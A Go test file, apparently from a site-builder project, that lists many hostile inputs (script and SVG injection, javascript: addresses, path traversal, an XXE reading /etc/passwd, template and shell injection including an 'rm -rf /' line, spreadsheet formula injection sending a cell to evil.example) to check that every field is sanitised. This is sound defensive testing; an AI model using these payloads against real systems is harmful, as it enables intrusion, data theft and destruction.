package build

import (
	"slices"
	"strings"
	"testing"
)

// payloads are strings that a participant, a pasted document or an imported sheet
// may bring: attempts to get markup, scripts, styles, addresses or commands through,
// and plain oddities. Each is put into every field of a site.
var payloads = slices.Concat(
	markupPayloads, attributePayloads, addressPayloads, templatePayloads, textPayloads, outputPayloads, invisiblePayloads,
)

var markupPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<script/x>alert(1)</script/x>`,
	`</script><script>alert(1)//`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`</title><script>alert(1)</script>`,
	`</p></td></tr></table></section></main></body></html><script>alert(1)</script>`,
	`</textarea><img src=x onerror=alert(1)>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/t.gif">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>`,
	`<svg><set attributeName=href to=javascript:alert(1)>`,
	`<svg><animate attributeName=href values=javascript:alert(1)>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
	`<svg><style>*{background:url(//evil.example)}</style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object><embed src=//evil.example>`,
	`<form action=//evil.example><input name=p autofocus onfocus=alert(1)>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>*{display:none}</style>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<template><script>alert(1)</script></template>`,
	`<plaintext>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--`,
	`--><script>alert(1)</script><!--`,
	`<!--><script>alert(1)</script>-->`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`]]><script>alert(1)</script>`,
	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`<?php system('id') ?>`,
	`<`, `>`, `<a`, `</`, `<p`, `&`, `"`, `'`, "`",
}

var attributePayloads = []string{
	`" onmouseover="alert(1)`,
	`' onmouseover='alert(1)`,
	`x onmouseover=alert(1) y=`,
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`" style="position:fixed;inset:0;background:url(//evil.example)" x="`,
	`" autofocus onfocus="alert(1)" tabindex="0`,
	`" srcdoc="<script>alert(1)</script>`,
	"`onmouseover=alert(1)",
	`&quot; onclick=&quot;alert(1)`,
	`&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;`,
	`&nbsp;&copy &notit; &#x41 &#0; &#xD800;`,
}

var addressPayloads = []string{
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(1)`,
	`javascript&colon;alert(1)`,
	`javascript&#58;alert(1)`,
	`java&Tab;script:alert(1)`,
	"java\nscript:alert(1)",
	`vbscript:msgbox(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`file:///etc/passwd`,
	`//evil.example/x`,
	`\\evil.example\share`,
	`https://evil.example/?q="><script>`,
	`../../../../etc/passwd`,
	`..\..\..\windows\win.ini`,
	`%2e%2e%2f%2e%2e%2fsite.toml`,
	`/etc/passwd`,
	`C:\Windows\System32`,
	`file.html#"onclick="alert(1)`,
	`mailto:tom@example.org?bcc=all@example.org`,
	`tom@example.org?bcc=all@example.org`,
	`tom@example.org?subject=x&body=y`,
	`tom@example.org%0d%0abcc:all@example.org`,
	`tom%3Fbcc=all%40example.org@example.org`,
	`"tom\"><script>"@example.org`,
	`o'hara&bcc=all@example.org`,
	"tom@example.org\r\nBcc: all@example.org",
	`tel:+44<script>`,
	`+44 1632 960 001;phone-context=evil.example`,
	`*21*01632960001#`,
	`sms:+441632960001?body=x`,
	`intent://evil.example#Intent;scheme=https;end`,
}

var templatePayloads = []string{
	`{{.}}`,
	`{{template "page"}}`,
	`{{define "page"}}owned{{end}}`,
	`{{range $i := 100000000}}x{{end}}`,
	`{{prose "<script>alert(1)</script>"}}`,
	`{{`, `}}`, `{{/*`, `{{end}}`,
	`{mentor} {mentors} {mentee} {mentees} {n} {name} {title}`,
	`{a}{b}{count}{of}{text}{mentor_side}`,
	`%s %d %v %!s(MISSING) %[1]*d %n`,
	`ZgotmplZ`,
	`#ZgotmplZ`,
	`<no value>`,
	`pairbook.page.title<&"'+/ %=>`,
	`pairbook.book.title<&"'+/ %=>`,
	`pairbook.page.title&lt;&amp;&#34;&#39;&#43;/ %=&gt; {{.Body}}`,
	`\x00sheets\x00 \x00pieces rows\x00 \x00i`,
	`${alert(1)} <%= 1 %> #{1} $(id) ;id; | id`,
	"\x60id\x60 && rm -rf / || true",
	`+++`,
	"x\n+++\n<script>alert(1)</script>",
	`"""`,
	`'''`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`\x3cscript\x3e`,
	`*/ } body { display: none } /*`,
	`expression(alert(1))`,
	`url(javascript:alert(1))`,
	`# [x](javascript:alert(1)) ![x](https://evil.example/t.gif) **b** | a | b |`,
}

var textPayloads = []string{
	strings.Repeat("A", 2000),
	strings.Repeat("many words ", 200),
	strings.Repeat("<b>", 300),
	strings.Repeat(`"`, 300),
	"a line\nand another\n\nand a third",
	"tab\tand\ttab",
	"  blanks   all  round  ",
	"Zoë Łukasiewicz-O’Brien",
	"李小龍 ・ 佐藤花子",
	"محمد بن عبد الله", "אֲבִיגַיִל כֹּהֵן",
	"علی\u200cرضا", "ක්\u200dරිෂ්ණා",
	"👩🏽\u200d🔧 ❤\ufe0f 🇵🇹",
	"Z\u0324\u0326a\u0334\u0322l\u0337\u0327g\u0336\u0321o\u0335\u0328",
	"\ufffd \U000f0000 \ue000",
	"ﷺ ﬁ ß İ ı K",
	"1/0 null NaN true -0 1e999 0x41",
}

// outputPayloads mean something in a spreadsheet, a calendar or a log.
var outputPayloads = []string{
	`=HYPERLINK("https://evil.example?x="&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd`,
	"\t=1+1",
	`","=1+1","`,
	"a\"\nb,c;d\r\ne",
	"END:VEVENT\nBEGIN:VEVENT\nSUMMARY:x",
	`x;ATTACH=https://evil.example:y\nDTSTART:20270101`,
	`PRIORITY:1\, \; \\ ^n ^' "x"`,
}

// invisiblePayloads are characters that no text may hold: each is a problem.
var invisiblePayloads = []string{
	"a\x00b", "a\x07b", "a\x1b[2Jb", "a\x7fb", "a\u0085b", "lone\rreturn",
	"tom\u202etxt.exe", "a\u2066b\u2069c", "a\u200eb", "a\u200bb", "a\ufeffb", "a\u2028b", "a\u2060b", "a\U000e0041b",
}

func TestPayloadsAreManyAndDifferent(t *testing.T) {
	if len(payloads) < 80 {
		t.Errorf("only %d payloads", len(payloads))
	}
	sorted := slices.Sorted(slices.Values(payloads))
	for i := range sorted[1:] {
		if sorted[i] == sorted[i+1] {
			t.Errorf("%q comes twice", sorted[i])
		}
	}
}
